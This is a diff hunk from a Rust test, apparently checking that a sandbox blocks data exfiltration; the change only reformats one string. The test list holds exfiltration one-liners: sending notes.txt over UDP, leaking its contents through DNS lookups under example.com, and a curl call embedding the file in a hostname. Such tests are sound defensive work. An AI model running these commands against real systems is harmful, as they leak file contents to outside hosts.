@@ -302,9 +302,8 @@ async fn net_harm_property_no_exfiltration() {
         format!(
             "python3 -c 'import socket;s=socket.socket(type=socket.SOCK_DGRAM);s.sendto(open(\"notes.txt\",\"rb\").read(),(\"127.0.0.1\",{udp_port}))'"
         ),
-        format!(
-            "python3 -c 'import socket;socket.getaddrinfo(open(\"notes.txt\").read().strip()+\".example.com\",80)'"
-        ),
+        "python3 -c 'import socket;socket.getaddrinfo(open(\"notes.txt\").read().strip()+\".example.com\",80)'"
+            .to_owned(),
         format!("{curl} \"http://$(cat notes.txt).example.com/\""),
     ];
     // Only localhost:PORT is allowed by name; the loopback allowance covers 127.0.0.1,
